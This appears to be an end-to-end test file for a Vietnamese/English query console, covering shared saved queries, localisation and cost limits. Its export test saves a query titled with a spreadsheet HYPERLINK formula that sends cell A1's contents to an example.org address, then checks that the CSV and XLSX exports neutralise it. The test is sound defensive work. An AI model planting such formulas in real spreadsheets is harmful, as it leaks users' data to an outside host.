import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { UNITS } from '../privacy/planted-years.ts'
import { makePeople } from '../world/people.ts'
import { createWorld, type TestWorld } from '../world/world.ts'
import { ensureBuiltWeb } from './built-web.ts'
import { atConsole, COSTLY } from './console-desk.ts'
import { demoOfNobody } from './demo-of-nobody.ts'
import { DESK, launchBrowser, openDevice, type Device } from './device.ts'
import { speaksEnglish } from './english.ts'
import { looksWell } from './look.ts'
import { readSheet } from './read-sheet.ts'
import { signsIn } from './sign-in.ts'

/** Two analysts: what one saves, renames and shares, the other copies; and what leaves the console as a file. */
const LONG = 120_000
const COLLEAGUE = 'U-OFFICE:12'
const FORMULA = '=HYPERLINK("https://example.org/?"&A1;"Mở")'
const UNIT_NAMES = '{ organizations(first: 3) { edges { node { id name { vi en } } } } }'
const stack = new AsyncDisposableStack()
let world: TestWorld
let khanh: Device
let colleague: Device

beforeAll(async () => {
  await ensureBuiltWeb()
  const env = await demoOfNobody(stack)
  const people = makePeople(UNITS)
  const memberId = people.memberIds.get(COLLEAGUE) ?? ''
  const analyst = { role: 'ANALYST', orgId: 'P12', from: '2015-01-01', to: null } as const
  const roles = [...people.world.roles, { id: 'R-colleague', memberId, ...analyst }]
  const withColleague = { ...people, world: { ...people.world, roles } }
  world = stack.use(await createWorld({ redisDb: 59, people: withColleague, env }))
  const browser = await launchBrowser()
  stack.defer(async () => await browser.close())
  khanh = await openDevice(browser, world.url, DESK)
  colleague = await openDevice(browser, world.url, DESK)
  await signsIn(khanh, world, 'khanh')
  await signsIn(colleague, world, COLLEAGUE)
}, 180_000)
afterAll(async () => await stack.disposeAsync(), 60_000)
afterEach(() => {
  for (const { errors } of [khanh, colleague]) expect(errors.splice(0)).toEqual([])
})

describe('a question of one analyst', { timeout: LONG }, () => {
  it('keeps what is typed, however fast', async () => {
    const at = atConsole(khanh)
    await at.opens()
    await at.writes('{ first }')
    for (let turn = 0; turn < 30; turn++) {
      await khanh.page.keyboard.press('Control+a')
      await khanh.page.keyboard.press('Delete')
      await khanh.page.keyboard.insertText(`{ turn${turn} }`)
      expect((await khanh.page.locator('.cm-content').innerText()).trim()).toBe(`{ turn${turn} }`)
    }
  })

  it('runs on Ctrl+Enter from the editor', async () => {
    const at = atConsole(khanh)
    await at.opens()
    await at.writes(UNIT_NAMES)
    await khanh.page.keyboard.press('Control+Enter')
    await at.answered('Kết quả, 3 dòng')
  })

  it('is saved under a name, renamed, and shared with colleagues', async () => {
    const at = atConsole(khanh)
    await at.savesAs('Ba đơn vị')
    await khanh.page.getByText('Đã lưu.', { exact: true }).waitFor()
    await at.button('Đổi tên').click()
    expect(await at.dialog.getByLabel('Tên').inputValue()).toBe('Ba đơn vị')
    await at.dialog.getByLabel('Tên').fill('Ba đơn vị đầu danh sách')
    await at.dialog.getByRole('button', { name: 'Lưu' }).click()
    await at.button('Ba đơn vị đầu danh sách').waitFor()
    expect(await at.button('Ba đơn vị').count()).toBe(0)
    await at.button('Chia sẻ').click()
    await khanh.page.getByText('đang chia sẻ').waitFor()
    await looksWell(khanh, 'console-own', { quick: true })
  })

  it('is copied by another, and the copy is the colleague’s own', async () => {
    const at = atConsole(colleague)
    await at.opens()
    await colleague.page.getByText('Đồng nghiệp chia sẻ').waitFor()
    await at.button('Ba đơn vị đầu danh sách').click()
    expect(await at.button('Xóa…').count()).toBe(0)
    await looksWell(colleague, 'console-shared', { quick: true })
    await at.button('Chép thành của tôi').click()
    await at.dialog.getByLabel('Tên').fill('Bản của tôi')
    await at.dialog.getByRole('button', { name: 'Lưu' }).click()
    await at.button('Bản của tôi').waitFor()
    await at.button('Đổi tên').waitFor()
    await at.runs()
    await at.answered('Kết quả, 3 dòng')
  })

  it('is no longer seen once it is not shared; the copy stays', async () => {
    const own = atConsole(khanh)
    await own.button('Thôi chia sẻ').click()
    await khanh.page.getByText('đang chia sẻ').waitFor({ state: 'detached' })
    const at = atConsole(colleague)
    await at.opens()
    await at.button('Bản của tôi').waitFor()
    expect(await at.button('Ba đơn vị đầu danh sách').count()).toBe(0)
  })
})

describe('a file of an answer', { timeout: LONG }, () => {
  it('holds what looks like a formula as text, in both forms', async () => {
    const at = atConsole(khanh)
    await at.button('Mới').click()
    await at.writes('{ savedQueries { title shared } }')
    await at.savesAs(FORMULA)
    await at.runs()
    await at.answered('Kết quả, 2 dòng')
    const csv = (await at.takes(/CSV/)).toString('utf8')
    expect(csv).toContain(`"'=HYPERLINK(""https`)
    expect(csv).not.toMatch(/(^|,)"?=/m)
    const [head, ...rows] = readSheet(await at.takes(/XLSX/))
    expect(head?.map(({ text }) => text)).toEqual(['title', 'shared'])
    const cells = rows.flat()
    expect(cells.map(({ text }) => text.replaceAll('&quot;', '"'))).toContain(FORMULA)
    expect(cells.filter(({ isFormula }) => isFormula)).toEqual([])
  })
})

describe('the console in English', { timeout: LONG }, () => {
  it('leaves nothing in Vietnamese but names', async () => {
    const { page } = khanh
    const at = atConsole(khanh)
    await page.getByRole('button', { name: 'English' }).click()
    await page.getByRole('button', { name: 'Tiếng Việt' }).waitFor()
    await at.opens()
    await page.getByText('Ready questions').waitFor()
    await page
      .getByText(/estimated cost|waiting for a valid query/)
      .first()
      .waitFor()
    await at.writes('{ organizations(first: 3) { edges { node { code kind } } } }')
    await at.runs()
    await at.answered('Result, 3 rows')
    await speaksEnglish(khanh, FORMULA, 'Ba đơn vị đầu danh sách')
    await looksWell(khanh, 'console-english', { quick: true, narrow: true })
  })

  it('says in English what is too much, and what the keys do', async () => {
    const { page } = khanh
    const at = atConsole(khanh)
    await at.opens()
    await at.writes(COSTLY)
    await at.runs()
    await at.trouble.filter({ hasText: 'The query costs too much and was not run.' }).waitFor()
    expect(await at.trouble.innerText()).toMatch(
      /organizations\.edges\.node\.children: first is 100; \d+ or fewer would fit\./,
    )
    await speaksEnglish(khanh, FORMULA, 'Ba đơn vị đầu danh sách')
    await looksWell(khanh, 'console-english-costly', { quick: true })
    await at.button('Keyboard').click()
    await page.getByText('Run the query').waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('button', { name: 'Tiếng Việt' }).click()
    await page.getByText('Câu hỏi có sẵn').waitFor()
  })
})
